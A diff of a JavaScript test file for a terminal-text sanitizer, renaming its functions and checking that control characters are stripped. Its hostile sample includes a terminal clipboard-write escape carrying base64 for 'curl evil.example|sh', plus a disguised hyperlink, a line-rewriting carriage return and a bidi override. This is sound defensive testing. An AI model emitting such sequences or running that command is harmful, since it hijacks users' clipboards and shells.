@@ -1,5 +1,5 @@
 import test from 'ava';
-import { printableJson, printableLine, printableText } from '../../domain/text/terminal.js';
+import { terminalJson, terminalText, terminalLines } from '../../domain/terminal-text.js';
 import { webAddress } from '../../domain/text/web-address.js';
 
 /** What the fourth attack put in a feed's title: a clipboard write, a disguised link, a rewritten line. */
@@ -8,21 +8,22 @@ const HOSTILE =
   '\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\\r[fake] all clear\u009b2J\u202eevil\u2028\u0000\u007f';
 
 test('a line from outside reaches a terminal without any control character', (t) => {
-  const line = printableLine(`${HOSTILE}\nnext\tline`);
+  const line = terminalText(`${HOSTILE}\nnext\tline`);
   t.notRegex(line, /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
   t.is(
     line,
-    ']52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=Limits reset]8;;https://evil.example\\here]8;;\\[fake] all clear2Jevil next line',
+    // Each line break (the CR that would rewrite the line, U+2028, the newline) reads as a space.
+    ']52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=Limits reset]8;;https://evil.example\\here]8;;\\ [fake] all clear2Jevil  next line',
   );
 });
 
 test('a block of text keeps its line breaks and tabs, and loses every other control', (t) => {
-  t.is(printableText('one\r\n\u001b[2Jtwo\tthree\u2029'), 'one\n[2Jtwo\tthree');
+  t.is(terminalLines('one\r\n\u001b[2Jtwo\tthree\u2029'), 'one\n[2Jtwo\tthree');
 });
 
 test('JSON for a terminal escapes the controls JSON.stringify leaves raw, and reads back the same', (t) => {
   const value = { title: HOSTILE };
-  const json = printableJson(value, 2);
+  const json = terminalJson(value, 2);
   t.notRegex(json, /(?!\n)[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
   t.deepEqual(JSON.parse(json), value);
 });
